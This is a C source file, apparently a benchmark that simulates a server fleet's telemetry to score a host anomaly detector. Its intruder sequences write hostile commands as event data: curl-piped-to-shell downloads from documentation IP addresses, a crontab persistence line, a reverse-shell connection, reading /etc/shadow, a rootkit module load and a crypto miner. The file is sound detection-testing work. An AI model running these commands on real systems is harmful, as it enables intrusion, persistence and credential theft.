// SPDX-License-Identifier: GPL-2.0 OR BSD-2-Clause
/*
 * fleetsim.c - a simulated fleet judged by the real herd engine, in virtual time.
 *
 *   build/bench/fleetsim [--size small|full] [--seed N] [--days D] [--check]
 *                        [--alerts FILE] [--engine-only]
 *
 * Three parts:
 *   generator  herds of hosts and of containers (3 to 50 members) that behave like a fleet:
 *              request traffic with pids, ephemeral ports and request ids in argv, DNS lookups
 *              of per-request names, an hourly cron job at each member's own minute, a
 *              configuration-management run every 30 min, a log sidecar on some members, ops
 *              logins with sudo, app crashes and restarts (containers replaced), release waves
 *              with versioned paths (rolling over minutes, all at once, and one slower than
 *              --change-window-s), members joining and leaving, an agent cut off for an hour
 *              that then flushes its spool, and intruder sequences on chosen members. Every
 *              event is a JSON line in the event contract (docs/events*.md), the way an agent
 *              writes it. Deterministic for a seed.
 *   pacer      each agent ships a batch every 250 ms (its own phase), 3 ms in transit; an
 *              offline agent's events wait in its spool. Events reach the collector path in
 *              arrival order, and the engine is ticked every 100 ms of virtual time, as
 *              collector/main.c does: json_parse_strict -> ev_extract -> herd_seen once per
 *              batch -> herd_time_skewed -> herd_release_at for a program run from a
 *              release path -> herd_observe_at per token; herd_tick.
 *   scorer     ground truth is the list of intruder sequences (member, first event, first
 *              arrival) and of release waves (herd, start, end). It reports recall (sequences
 *              with a member.outlier on their member within 5 s of their first event; for a
 *              spooled one, of its arrival), precision of pages (member.outlier, severity
 *              alert), pages during release waves, false pages per 1000 member-days, alert
 *              latency p50/p95 and the CPU of the collector path per event (thread CPU time of
 *              parsing, extraction and the engine; the generator not counted).
 * --check prints "ok - name" / "not ok - name: why" per target (the test suite's size).
 */
#include <errno.h>
#include <getopt.h>
#include <math.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

#include "collector/herd.h"
#include "collector/json.h"
#include "collector/tokens.h"

#define NS 1000000000ull
#define MS 1000000ull
#define TICK_NS (100 * MS)
#define BATCH_NS (250 * MS)
#define TRANSIT_NS (3 * MS)
#define DETECT_NS (5 * NS)
#define T0 (1796083200ull * NS) /* 2026-12-01T00:00:00Z */
#define MAX_TOKS 4096

/* ---- deterministic random numbers (splitmix64) ---- */

static uint64_t rng_s;
static uint64_t rnd(void)
{
	uint64_t z = (rng_s += 0x9e3779b97f4a7c15ull);
	z = (z ^ (z >> 30)) * 0xbf58476d1ce4e5b9ull;
	z = (z ^ (z >> 27)) * 0x94d049bb133111ebull;
	return z ^ (z >> 31);
}
static unsigned rndn(unsigned n)
{
	return n ? (unsigned)(rnd() % n) : 0;
}
static double rndf(void)
{
	return (double)(rnd() >> 11) / 9007199254740992.0;
}
/* exponential with the given mean, in ns */
static uint64_t rnd_exp(double mean_s)
{
	return (uint64_t)(-log(1.0 - rndf()) * mean_s * NS) + 1;
}
static void rnd_hex(char *out, int n)
{
	static const char hx[] = "0123456789abcdef";
	for (int i = 0; i < n; i++)
		out[i] = hx[rndn(16)];
	out[n] = 0;
}
static void rnd_alnum(char *out, int n)
{
	static const char a[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789";
	for (int i = 0; i < n; i++)
		out[i] = a[rndn(sizeof(a) - 1)];
	out[n] = 0;
}

/* ---- the fleet ---- */

enum { APP_WEB, APP_JAVA, APP_PY, APP_NIX, APP_SNAP, APP_NODE, APP_N };

/* How a herd's members run their service; %s is the release's version string. */
struct app {
	const char *exe;    /* the service binary (its path carries the version) */
	const char *worker; /* what it spawns per request batch ("" none) */
	int port;           /* it listens on */
	int db_port;        /* it connects to (private) */
	const char *dns;    /* a per-request name under this domain */
	const char *vfmt;   /* printf format of a version, from the release number */
	const char *newexe; /* what a release adds: a helper it runs (%s: version) */
	int newport;        /* ... and a connection it opens */
};

static const struct app apps[APP_N] = {
	[APP_WEB] = {"/opt/shop/%s/bin/shop-web", "/opt/shop/%s/bin/render", 8080, 5432,
		     "cart.shop.svc.cluster.local", "2.%d.0", "/opt/shop/%s/bin/thumbnailer", 9200},
	[APP_JAVA] = {"/usr/lib/jvm/java-%s-openjdk-amd64/bin/java", "", 8443, 5432,
		      "s3.eu-west-1.amazonaws.com", "%d",
		      "/usr/lib/jvm/java-%s-openjdk-amd64/bin/jcmd", 6379},
	[APP_PY] = {"/app/releases/%s/venv/bin/python3.11", "/app/releases/%s/venv/bin/celery", 0,
		    5672, "queue.prod.example.co.uk", "20261%03d-101500",
		    "/app/releases/%s/venv/bin/alembic", 5432},
	[APP_NIX] = {"/nix/store/%s-ingest-1.4.2/bin/ingest", "", 7000, 9092,
		     "kafka.data.svc.cluster.local", "%d", "/nix/store/%s-ingest-1.4.2/bin/compact",
		     9000},
	[APP_SNAP] = {"/snap/telemetry/%s/bin/telemetry", "", 4317, 0, "otel.example.com", "%d",
		      "/snap/telemetry/%s/bin/exporter", 4318},
	[APP_NODE] = {"/usr/bin/kubelet", "/usr/sbin/runc", 10250, 6443, "registry.k8s.io", "1.%d",
		      "/usr/bin/crictl", 2379},
};

struct herd_def {
	const char *name;
	int containers; /* members are containers on the nodes (else hosts) */
	int size;
	int app;
	int sidecar_pct;
	int release; /* 0 none, 1 rolling (30-90 s apart), 2 all at once, 3 slow (> change window) */
	double release_day;
	int versioned; /* members carry a version (image tag / host.version) */
};

/* One member: a host (its own agent) or a container on a node. */
struct mem {
	int herd, agent;
	char name[128], ctr[72];
	int rel; /* release number it runs */
	int alive, sidecar, minute, has_new;
	uint64_t born, died;
	unsigned pid;
	char relver[64]; /* version string of rel, as the paths show it */
};

struct agent {
	char host[64], id[40], boot[40], run[20];
	const char *herd; /* host.herd */
	char ver[64];     /* host.version */
	int versioned;
	uint64_t seq, phase;
	uint64_t offline_from, offline_to; /* spool held in this interval */
	int member;                        /* its host member, -1 */
	int alive;
};

struct intrusion {
	int member, type;
	uint64_t t0, arr0, t_end;
	int spooled, detected, paged;
	uint64_t latency;
};

struct wave {
	int herd;
	uint64_t t0, t1;
};

struct alert {
	char kind[24], sev[12];
	char *member, *herd;
	uint64_t at;
	int late, truth;
};

/* ---- arrival queue (a binary heap by arrival time, then order of generation) ---- */

struct pend {
	uint64_t arr, ord;
	int agent;
	char *json;
	size_t len;
};

static struct pend *pq;
static size_t npq, pqcap;
static uint64_t ord_n;

static int pless(const struct pend *a, const struct pend *b)
{
	return a->arr < b->arr || (a->arr == b->arr && a->ord < b->ord);
}

static void pq_push(struct pend p)
{
	if (npq == pqcap) {
		pqcap = pqcap ? pqcap * 2 : 4096;
		pq = realloc(pq, pqcap * sizeof(*pq));
		if (!pq)
			abort();
	}
	size_t i = npq++;
	while (i && pless(&p, &pq[(i - 1) / 2])) {
		pq[i] = pq[(i - 1) / 2];
		i = (i - 1) / 2;
	}
	pq[i] = p;
}

static struct pend pq_pop(void)
{
	struct pend top = pq[0], last = pq[--npq];
	size_t i = 0;
	for (;;) {
		size_t l = 2 * i + 1, s = i;
		const struct pend *best = &last;
		if (l < npq && pless(&pq[l], best))
			best = &pq[s = l];
		if (l + 1 < npq && pless(&pq[l + 1], best))
			s = l + 1;
		if (s == i)
			break;
		pq[i] = pq[s];
		i = s;
	}
	if (npq)
		pq[i] = last;
	return top;
}

/* ---- action queue (what members and the fleet do next, by event time) ---- */

enum {
	A_TRAFFIC,
	A_CRON,
	A_CM,
	A_SIDECAR,
	A_HEARTBEAT,
	A_OPS,
	A_CRASH,
	A_RELEASE,
	A_JOIN,
	A_LEAVE,
	A_INTRUDE,
	A_QUARANTINE
};

struct act {
	uint64_t t;
	int type, who, arg;
};

static struct act *aq;
static size_t naq, aqcap;

static void aq_push(uint64_t t, int type, int who, int arg)
{
	if (naq == aqcap) {
		aqcap = aqcap ? aqcap * 2 : 4096;
		aq = realloc(aq, aqcap * sizeof(*aq));
		if (!aq)
			abort();
	}
	struct act a = {t, type, who, arg};
	size_t i = naq++;
	while (i && a.t < aq[(i - 1) / 2].t) {
		aq[i] = aq[(i - 1) / 2];
		i = (i - 1) / 2;
	}
	aq[i] = a;
}

static struct act aq_pop(void)
{
	struct act top = aq[0], last = aq[--naq];
	size_t i = 0;
	for (;;) {
		size_t l = 2 * i + 1, s = i;
		uint64_t bt = last.t;
		if (l < naq && aq[l].t < bt)
			bt = aq[s = l].t;
		if (l + 1 < naq && aq[l + 1].t < bt)
			s = l + 1;
		if (s == i)
			break;
		aq[i] = aq[s];
		i = s;
	}
	if (naq)
		aq[i] = last;
	return top;
}

/* ---- simulation state ---- */

static struct herd_def *herds;
static int nherds;
static struct mem *mems;
static int nmems, memcap;
static struct agent *agents;
static int nagents, agentcap;
static struct intrusion *intr;
static int nintr, intrcap;
static struct wave *waves;
static int nwaves;
static struct alert *alerts;
static size_t nalerts, alertcap;
static int *herd_rel; /* per herd: the release new members get */
static uint64_t t_end, warmup_ns;
static FILE *alert_out;
static struct herd_cfg hcfg;

static int add_agent(const char *host, const char *herd, int versioned)
{
	if (nagents == agentcap) {
		agentcap = agentcap ? agentcap * 2 : 64;
		agents = realloc(agents, (size_t)agentcap * sizeof(*agents));
		if (!agents)
			abort();
	}
	struct agent *a = &agents[nagents];
	memset(a, 0, sizeof(*a));
	snprintf(a->host, sizeof(a->host), "%s", host);
	rnd_hex(a->id, 32);
	rnd_hex(a->boot, 36);
	a->boot[8] = a->boot[13] = a->boot[18] = a->boot[23] = '-';
	rnd_hex(a->run, 16);
	a->herd = herd;
	a->versioned = versioned;
	a->seq = 1;
	a->phase = rndn((unsigned)BATCH_NS);
	a->member = -1;
	a->alive = 1;
	return nagents++;
}

static void rel_version(int app, int rel, char *out, size_t n)
{
	if (app == APP_NIX) { /* a store hash per build */
		uint64_t save = rng_s;
		rng_s = 0x5eed0000ull + (uint64_t)rel;
		static const char nb[] = "0123456789abcdfghijklmnpqrsvwxyz";
		for (int i = 0; i < 32; i++)
			out[i] = nb[rndn(32)];
		out[32] = 0;
		rng_s = save;
		return;
	}
	if (app == APP_JAVA) { /* 17, then 21 */
		snprintf(out, n, "%d", rel ? 21 : 17);
		return;
	}
	if (app == APP_SNAP) {
		snprintf(out, n, "%d", 1200 + 37 * rel);
		return;
	}
	snprintf(out, n, apps[app].vfmt, 10 + rel);
}

/* the version a member reports (image tag / host.version), by release */
static void tag_of(int herd, int rel, char *out, size_t n)
{
	snprintf(out, n, "%s-r%d", herds[herd].name, 40 + rel);
}

static int add_member(int herd, int agent, uint64_t t, int rel)
{
	if (nmems == memcap) {
		memcap = memcap ? memcap * 2 : 256;
		mems = realloc(mems, (size_t)memcap * sizeof(*mems));
		if (!mems)
			abort();
	}
	struct mem *m = &mems[nmems];
	memset(m, 0, sizeof(*m));
	m->herd = herd;
	m->agent = agent;
	m->alive = 1;
	m->born = t;
	m->rel = rel;
	m->has_new = rel > 0;
	m->sidecar = (int)rndn(100) < herds[herd].sidecar_pct;
	m->minute = (int)rndn(60);
	m->pid = 1000 + rndn(30000);
	rel_version(herds[herd].app, rel, m->relver, sizeof(m->relver));
	if (herds[herd].containers) {
		rnd_hex(m->ctr, 64);
		snprintf(m->name, sizeof(m->name), "%s/%s", agents[agent].host, m->ctr);
	} else {
		snprintf(m->name, sizeof(m->name), "%s", agents[agent].host);
		agents[agent].member = nmems;
		if (herds[herd].versioned)
			tag_of(herd, rel, agents[agent].ver, sizeof(agents[agent].ver));
	}
	int i = nmems++;
	uint64_t r = rnd_exp(60);
	aq_push(t + r, A_TRAFFIC, i, 0);
	uint64_t hour = (t / (3600 * NS)) * 3600 * NS + (uint64_t)m->minute * 60 * NS;
	aq_push(hour > t ? hour : hour + 3600 * NS, A_CRON, i, 0);
	aq_push(t + rndn(1800) * NS, A_CM, i, 0);
	if (m->sidecar)
		aq_push(t + rnd_exp(120), A_SIDECAR, i, 0);
	return i;
}

/* ---- events: JSON lines in the event contract ---- */

struct jw {
	char b[8192];
	size_t n;
};

static void jw(struct jw *w, const char *fmt, ...) __attribute__((format(printf, 2, 3)));
static void jw(struct jw *w, const char *fmt, ...)
{
	va_list ap;
	va_start(ap, fmt);
	int r = vsnprintf(w->b + w->n, sizeof(w->b) - w->n, fmt, ap);
	va_end(ap);
	if (r > 0)
		w->n += (size_t)r < sizeof(w->b) - w->n ? (size_t)r : sizeof(w->b) - w->n - 1;
}

static void fmt_ts(char *out, size_t n, uint64_t t)
{
	time_t s = (time_t)(t / NS);
	struct tm tm;
	gmtime_r(&s, &tm);
	snprintf(out, n, "%04d-%02d-%02dT%02d:%02d:%02d.%09lluZ", tm.tm_year + 1900, tm.tm_mon + 1,
		 tm.tm_mday, tm.tm_hour, tm.tm_min, tm.tm_sec, (unsigned long long)(t % NS));
}

/* a process of member m: exe, argv (NULL-terminated), parent exe, uid */
struct proc {
	const char *exe, *const *args, *pexe;
	int uid, euid, setuid, tty;
};

static uint64_t events_made;

static void emit_ev(int mi, int agent_i, uint64_t t, const char *kind, const struct proc *p,
		    const char *obj)
{
	struct agent *a = &agents[agent_i];
	struct mem *m = mi >= 0 ? &mems[mi] : NULL;
	struct jw w = {.n = 0};
	char ts[48];
	fmt_ts(ts, sizeof(ts), t);
	jw(&w,
	   "{\"seq\":%llu,\"time\":\"%s\",\"kind\":\"%s\",\"host\":{\"name\":\"%s\",\"id\":\"%s\","
	   "\"boot_id\":\"%s\",\"run\":\"%s\",\"herd\":\"%s\",\"version\":",
	   (unsigned long long)a->seq++, ts, kind, a->host, a->id, a->boot, a->run, a->herd);
	if (a->versioned && a->ver[0])
		jw(&w, "\"%s\"}", a->ver);
	else
		jw(&w, "null}");
	if (p) {
		unsigned pid = m ? ++m->pid : 100 + rndn(30000), ppid = pid - 1 - rndn(50);
		const char *comm = strrchr(p->exe, '/') ? strrchr(p->exe, '/') + 1 : p->exe;
		jw(&w,
		   ",\"proc\":{\"pid\":%u,\"tid\":%u,\"ppid\":%u,\"uid\":%d,\"gid\":%d,\"euid\":%d,"
		   "\"egid\":%d,\"auid\":%s,\"tty\":%s,\"comm\":\"%.15s\",\"exe\":\"%s\",\"args\":"
		   "[",
		   pid, pid, ppid, p->uid, p->uid, p->euid, p->euid, p->tty ? "1001" : "null",
		   p->tty ? "\"pts/0\"" : "null", comm, p->exe);
		for (int i = 0; p->args && p->args[i]; i++)
			jw(&w, "%s\"%s\"", i ? "," : "", p->args[i]);
		jw(&w, "],\"cwd\":\"/\",");
		if (m && m->ctr[0])
			jw(&w,
			   "\"cgroup\":\"/kubepods/burstable/pod%.8s/"
			   "%s\",\"container\":{\"id\":\"%s\","
			   "\"herd\":\"%s\",\"version\":\"%s-r%d\"},",
			   m->ctr + 8, m->ctr, m->ctr, herds[m->herd].name, herds[m->herd].name,
			   40 + m->rel);
		else
			jw(&w, "\"cgroup\":\"/system.slice/app.service\",\"container\":null,");
		jw(&w,
		   "\"key\":\"%.8s-%u-%llu\"},\"parent\":{\"pid\":%u,\"exe\":\"%s\",\"args\":[\"%"
		   "s\"],"
		   "\"key\":\"%.8s-%u-1\"},\"ancestors\":[\"%s\",\"/usr/lib/systemd/systemd\"]",
		   a->boot, pid, (unsigned long long)(t / 1000), ppid, p->pexe,
		   strrchr(p->pexe, '/') ? strrchr(p->pexe, '/') + 1 : p->pexe, a->boot, ppid,
		   p->pexe);
	}
	if (obj)
		jw(&w, ",%s", obj);
	jw(&w, "}");
	uint64_t arr;
	if (a->offline_to && t >= a->offline_from && t < a->offline_to)
		arr = a->offline_to + TRANSIT_NS; /* the spool is flushed on reconnection */
	else
		arr = t + (BATCH_NS - (t + BATCH_NS - a->phase) % BATCH_NS) + TRANSIT_NS;
	struct pend pe = {arr, ord_n++, agent_i, malloc(w.n + 1), w.n};
	if (!pe.json)
		abort();
	memcpy(pe.json, w.b, w.n + 1);
	pq_push(pe);
	events_made++;
}

static void ev_exec(int mi, uint64_t t, const char *exe, const char *const *args, const char *pexe,
		    int uid, int euid, int setuid)
{
	struct proc p = {exe, args, pexe, uid, euid, setuid, uid >= 1000};
	char o[128];
	snprintf(o, sizeof(o), "\"exec\":{\"result\":0,\"setuid\":%s,\"fileless\":false}",
		 setuid ? "true" : "false");
	emit_ev(mi, mems[mi].agent, t, "process.exec", &p, o);
}

static void ev_net(int mi, uint64_t t, const char *kind, const char *exe, const char *pexe, int uid,
		   const char *sip, int sport, const char *dip, int dport)
{
	struct proc p = {exe, NULL, pexe, uid, uid, 0, 0};
	char o[400];
	snprintf(o, sizeof(o),
		 "\"net\":{\"proto\":\"tcp\",\"family\":\"inet\",\"type\":\"stream\",\"src\":{"
		 "\"ip\":\"%s\","
		 "\"port\":%d},\"dst\":{\"ip\":\"%s\",\"port\":%d},\"result\":0,\"error\":null,"
		 "\"direction\":\"%s\",\"syscall\":\"%s\",\"fd\":%u,\"count\":1,\"folded\":false}",
		 sip, sport, dip, dport, strcmp(kind, "net.accept") ? "outbound" : "inbound",
		 strcmp(kind, "net.accept") ? "connect" : "accept4", 3 + rndn(60));
	emit_ev(mi, mems[mi].agent, t, kind, &p, o);
}

static void ev_dns(int mi, uint64_t t, const char *exe, const char *pexe, int uid, const char *q)
{
	struct proc p = {exe, NULL, pexe, uid, uid, 0, 0};
	char o[400];
	snprintf(o, sizeof(o),
		 "\"dns\":{\"query\":\"%s\",\"type\":\"A\",\"server\":{\"ip\":\"10.96.0.10\","
		 "\"port\":53}}",
		 q);
	emit_ev(mi, mems[mi].agent, t, "net.dns", &p, o);
}

static void ev_file(int mi, uint64_t t, const char *kind, const char *exe, const char *pexe,
		    int uid, const char *op, const char *path, const char *watch)
{
	struct proc p = {exe, NULL, pexe, uid, uid, 0, 0};
	char o[600];
	snprintf(o, sizeof(o),
		 "\"file\":{\"op\":\"%s\",\"syscall\":\"openat\",\"path\":\"%s\",\"target\":null,"
		 "\"flags\":\"%s\",\"result\":0,\"watch\":\"%s\"}",
		 op, path, strcmp(op, "read") ? "O_WRONLY|O_CREAT" : "O_RDONLY", watch);
	emit_ev(mi, mems[mi].agent, t, kind, &p, o);
}

static void ev_auth(int mi, uint64_t t, const char *exe, int uid, const char *svc, const char *user,
		    const char *runas, const char *rhost)
{
	struct proc p = {exe, NULL, "/usr/sbin/sshd", uid, 0, 0, 1};
	char o[400];
	snprintf(o, sizeof(o),
		 "\"auth\":{\"service\":\"%s\",\"user\":\"%s\",\"ruser\":null,\"rhost\":\"%s\","
		 "\"tty\":\"ssh\",\"step\":\"authenticate\",\"result\":\"success\",\"code\":0%s%s%"
		 "s}",
		 svc, user, rhost, runas ? ",\"sudo_runas\":\"" : "", runas ? runas : "",
		 runas ? "\"" : "");
	emit_ev(mi, mems[mi].agent, t, "user.auth", &p, o);
}

static void ev_exit(int mi, uint64_t t, const char *exe, int sig)
{
	struct proc p = {exe, NULL, "/usr/lib/systemd/systemd", 33, 33, 0, 0};
	char o[160];
	snprintf(o, sizeof(o), "\"exit\":{\"code\":%d,\"signal\":%d,\"duration_ns\":%llu}",
		 sig ? 128 + sig : 0, sig, (unsigned long long)rnd_exp(3600));
	emit_ev(mi, mems[mi].agent, t, "process.exit", &p, o);
}

static void app_exe(const struct mem *m, const char *fmt, char *out, size_t n)
{
	snprintf(out, n, fmt, m->relver);
}

static const char *app_parent(const struct mem *m)
{
	return herds[m->herd].containers ? "/usr/bin/containerd-shim-runc-v2"
					 : "/usr/lib/systemd/systemd";
}

/* the service starts (container start, host boot, restart after a crash, a release) */
static void app_start(int mi, uint64_t t)
{
	struct mem *m = &mems[mi];
	const struct app *ap = &apps[herds[m->herd].app];
	char exe[256];
	app_exe(m, ap->exe, exe, sizeof(exe));
	const char *args[] = {strrchr(exe, '/') + 1, "--config", "/etc/app/app.yaml", NULL};
	ev_exec(mi, t, exe, args, app_parent(m), 33, 33, 0);
	if (ap->port) {
		struct proc p = {exe, NULL, app_parent(m), 33, 33, 0, 0};
		char o[300];
		snprintf(o, sizeof(o),
			 "\"net\":{\"proto\":\"tcp\",\"family\":\"inet\",\"type\":\"stream\","
			 "\"src\":"
			 "{\"ip\":\"0.0.0.0\",\"port\":%d},\"dst\":{\"ip\":\"0.0.0.0\",\"port\":0},"
			 "\"result\":0,\"error\":null,\"syscall\":\"listen\",\"fd\":5}",
			 ap->port);
		emit_ev(mi, m->agent, t + 20 * MS, "net.listen", &p, o);
	}
	if (m->has_new) {
		char nx[256];
		app_exe(m, ap->newexe, nx, sizeof(nx));
		const char *a2[] = {strrchr(nx, '/') + 1, "--once", NULL};
		ev_exec(mi, t + 40 * MS, nx, a2, exe, 33, 33, 0);
	}
}

static void traffic(int mi, uint64_t t)
{
	struct mem *m = &mems[mi];
	const struct app *ap = &apps[herds[m->herd].app];
	char exe[256], ip[32], q[160], rid[40];
	app_exe(m, ap->exe, exe, sizeof(exe));
	if (ap->port) {
		snprintf(ip, sizeof(ip), "10.%u.%u.%u", 1 + rndn(3), rndn(256), 1 + rndn(250));
		ev_net(mi, t, "net.accept", exe, app_parent(m), 33, "10.0.1.5", ap->port, ip,
		       32768 + (int)rndn(28000));
	}
	if (ap->db_port)
		ev_net(mi, t + 2 * MS, "net.connect", exe, app_parent(m), 33, "10.0.1.5",
		       32768 + (int)rndn(28000), "10.0.2.10", ap->db_port);
	rnd_hex(rid, 12);
	snprintf(q, sizeof(q), "req-%s.%s", rid, ap->dns);
	ev_dns(mi, t + 3 * MS, exe, app_parent(m), 33, q);
	if (ap->worker[0]) {
		char wexe[256];
		app_exe(m, ap->worker, wexe, sizeof(wexe));
		rnd_hex(rid, 32);
		const char *args[] = {strrchr(wexe, '/') + 1, "--request-id", rid, NULL};
		ev_exec(mi, t + 5 * MS, wexe, args, exe, 33, 33, 0);
	}
	if (m->has_new && rndn(4) == 0)
		ev_net(mi, t + 6 * MS, "net.connect", exe, app_parent(m), 33, "10.0.1.5",
		       32768 + (int)rndn(28000), "10.0.3.20", ap->newport);
}

static void cron(int mi, uint64_t t)
{
	char tmpn[32], tmpf[64];
	const char *sh[] = {"/bin/sh", "-c", "/usr/sbin/logrotate /etc/logrotate.conf", NULL};
	ev_exec(mi, t, "/usr/bin/dash", sh, "/usr/sbin/cron", 0, 0, 0);
	const char *lr[] = {"logrotate", "/etc/logrotate.conf", NULL};
	ev_exec(mi, t + 10 * MS, "/usr/sbin/logrotate", lr, "/usr/bin/dash", 0, 0, 0);
	rnd_alnum(tmpn, 10);
	snprintf(tmpf, sizeof(tmpf), "/tmp/tmp.%s/app.log.1.gz", tmpn);
	const char *gz[] = {"gzip", "-9", tmpf, NULL};
	ev_exec(mi, t + 30 * MS, "/usr/bin/gzip", gz, "/usr/sbin/logrotate", 0, 0, 0);
	ev_file(mi, t + 40 * MS, "file.truncate", "/usr/sbin/logrotate", "/usr/bin/dash", 0,
		"truncate", "/var/log/app/app.log", "/var/log/");
}

static void config_mgmt(int mi, uint64_t t)
{
	const char *ruby = "/opt/puppetlabs/puppet/bin/ruby";
	const char *a[] = {"ruby", "/opt/puppetlabs/puppet/bin/puppet", "agent", "--onetime", NULL};
	ev_exec(mi, t, ruby, a, "/usr/lib/systemd/systemd", 0, 0, 0);
	ev_file(mi, t + 200 * MS, "file.open", ruby, "/usr/lib/systemd/systemd", 0, "read",
		"/etc/shadow", "/etc/shadow");
	ev_file(mi, t + 210 * MS, "file.open", ruby, "/usr/lib/systemd/systemd", 0, "read",
		"/etc/sudoers", "/etc/sudoers");
	ev_net(mi, t + 300 * MS, "net.connect", ruby, "/usr/lib/systemd/systemd", 0, "10.0.1.5",
	       32768 + (int)rndn(28000), "10.0.0.8", 8140);
}

static void sidecar(int mi, uint64_t t)
{
	const char *fb = "/opt/fluent-bit/bin/fluent-bit";
	const char *pp = app_parent(&mems[mi]);
	ev_net(mi, t, "net.connect", fb, pp, 0, "10.0.1.5", 32768 + (int)rndn(28000), "10.0.4.4",
	       24224);
	ev_dns(mi, t + MS, fb, pp, 0, "logs.observability.svc.cluster.local");
}

/* an engineer logs in and looks around with sudo */
static void ops_session(int mi, uint64_t t)
{
	static const char *const users[] = {"alice", "bob", "chen", "dana"};
	static const char *const cmds[][3] = {{"/usr/bin/systemctl", "status", "app"},
					      {"/usr/bin/journalctl", "-u", "app"},
					      {"/usr/bin/tail", "-n100", "/var/log/app/app.log"},
					      {"/usr/bin/df", "-h", "/"}};
	const char *u = users[rndn(4)];
	char rh[32];
	snprintf(rh, sizeof(rh), "10.0.0.%u", 2 + rndn(3));
	ev_auth(mi, t, "/usr/sbin/sshd", 0, "sshd", u, NULL, rh);
	const char *bash[] = {"-bash", NULL};
	ev_exec(mi, t + 300 * MS, "/usr/bin/bash", bash, "/usr/sbin/sshd", 1001, 1001, 0);
	uint64_t at = t + (5 + rndn(60)) * NS;
	int n = 1 + (int)rndn(2);
	for (int i = 0; i < n; i++) {
		const char *const *c = cmds[i == 0 ? rndn(2) : rndn(4)];
		ev_auth(mi, at, "/usr/bin/sudo", 1001, "sudo", u, "root", "");
		const char *sa[] = {"sudo", c[0] + 9, c[1], c[2], NULL};
		ev_exec(mi, at + 200 * MS, "/usr/bin/sudo", sa, "/usr/bin/bash", 1001, 0, 1);
		const char *ca[] = {c[0] + 9, c[1], c[2], NULL};
		ev_exec(mi, at + 250 * MS, c[0], ca, "/usr/bin/sudo", 0, 0, 0);
		at += (10 + rndn(120)) * NS;
	}
}

/* ---- intruders ---- */

enum { I_WEBSHELL, I_REVSHELL, I_MODULE, I_CRED, I_CRONTAB, I_MINER, I_SSHKEY, I_N };
static const char *const intr_name[I_N] = {"webshell-curl",   "reverse-shell", "kernel-module",
					   "credential-read", "crontab-write", "miner",
					   "ssh-key"};

/* Intruder sequence `type` on member mi from t; returns the time of its last event. */
static uint64_t intrude(int mi, int type, uint64_t t)
{
	struct mem *m = &mems[mi];
	char exe[256], tmp[32], path[96];
	app_exe(m, apps[herds[m->herd].app].exe, exe, sizeof(exe));
	const char *sh = "/usr/bin/dash";
	switch (type) {
	case I_WEBSHELL: {
		const char *a[] = {"sh", "-c", "curl -s http://203.0.113.7/x.sh | sh", NULL};
		ev_exec(mi, t, sh, a, exe, 33, 33, 0);
		const char *c[] = {"curl", "-s", "http://203.0.113.7/x.sh", NULL};
		ev_exec(mi, t + 30 * MS, "/usr/bin/curl", c, sh, 33, 33, 0);
		ev_dns(mi, t + 40 * MS, "/usr/bin/curl", sh, 33, "dl.update-cdn.top");
		ev_net(mi, t + 60 * MS, "net.connect", "/usr/bin/curl", sh, 33, "10.0.1.5", 41000,
		       "203.0.113.7", 80);
		return t + 60 * MS;
	}
	case I_REVSHELL: {
		const char *a[] = {"bash", "-i", NULL};
		ev_exec(mi, t, "/usr/bin/bash", a, exe, 33, 33, 0);
		ev_net(mi, t + 20 * MS, "net.connect", "/usr/bin/bash", exe, 33, "10.0.1.5", 45022,
		       "198.51.100.23", 4444);
		const char *id[] = {"id", NULL};
		ev_exec(mi, t + 3 * NS, "/usr/bin/id", id, "/usr/bin/bash", 33, 33, 0);
		return t + 3 * NS;
	}
	case I_MODULE: {
		/* stolen credentials: a login like the engineers' (8 s before its first act of its
		 * own, where the sequence's time starts), then a rootkit */
		t -= 8250 * MS;
		ev_auth(mi, t, "/usr/sbin/sshd", 0, "sshd", "bob", NULL, "10.0.0.3");
		const char *bash[] = {"-bash", NULL};
		ev_exec(mi, t + 300 * MS, "/usr/bin/bash", bash, "/usr/sbin/sshd", 1001, 1001, 0);
		ev_auth(mi, t + 8 * NS, "/usr/bin/sudo", 1001, "sudo", "bob", "root", "");
		const char *sa[] = {"sudo", "insmod", "/tmp/.m/diamorphine.ko", NULL};
		ev_exec(mi, t + 8200 * MS, "/usr/bin/sudo", sa, "/usr/bin/bash", 1001, 0, 1);
		const char *ia[] = {"insmod", "/tmp/.m/diamorphine.ko", NULL};
		ev_exec(mi, t + 8250 * MS, "/usr/sbin/insmod", ia, "/usr/bin/sudo", 0, 0, 0);
		struct proc p = {"/usr/sbin/insmod", ia, "/usr/bin/sudo", 0, 0, 0, 1};
		emit_ev(mi, m->agent, t + 8300 * MS, "kernel.module_load", &p,
			"\"module\":{\"syscall\":\"finit_module\",\"path\":\"/tmp/.m/"
			"diamorphine.ko\","
			"\"name\":\"diamorphine\",\"params\":\"\",\"fd\":3,\"flags\":0,\"result\":"
			"0,"
			"\"error\":null}");
		return t + 8300 * MS;
	}
	case I_CRED: {
		const char *a[] = {"sh", "-c", "cat /etc/shadow", NULL};
		ev_exec(mi, t, sh, a, exe, 33, 0, 0);
		const char *c[] = {"cat", "/etc/shadow", NULL};
		ev_exec(mi, t + 10 * MS, "/usr/bin/cat", c, sh, 33, 0, 0);
		ev_file(mi, t + 12 * MS, "file.open", "/usr/bin/cat", sh, 0, "read", "/etc/shadow",
			"/etc/shadow");
		return t + 12 * MS;
	}
	case I_CRONTAB: {
		const char *a[] = {"sh", "-c",
				   "echo '* * * * * curl -s 203.0.113.9|sh' | crontab -", NULL};
		ev_exec(mi, t, sh, a, exe, 33, 33, 0);
		const char *c[] = {"crontab", "-", NULL};
		ev_exec(mi, t + 15 * MS, "/usr/bin/crontab", c, sh, 33, 0, 1);
		ev_file(mi, t + 20 * MS, "file.open", "/usr/bin/crontab", sh, 0, "write",
			"/var/spool/cron/crontabs/www-data", "/var/spool/cron/");
		return t + 20 * MS;
	}
	case I_MINER: {
		const char *a[] = {"sh", "-c", "cd /tmp && ./.ICE-unix/kswapd0", NULL};
		ev_exec(mi, t, sh, a, exe, 33, 33, 0);
		rnd_alnum(tmp, 6);
		snprintf(path, sizeof(path), "/tmp/.ICE-unix/%s/kswapd0", tmp);
		const char *k[] = {"kswapd0", "-o", "pool.minexmr.com:3333", NULL};
		ev_exec(mi, t + 2 * NS, path, k, sh, 33, 33, 0);
		ev_dns(mi, t + 2100 * MS, path, sh, 33, "pool.minexmr.com");
		ev_net(mi, t + 2200 * MS, "net.connect", path, sh, 33, "10.0.1.5", 50111,
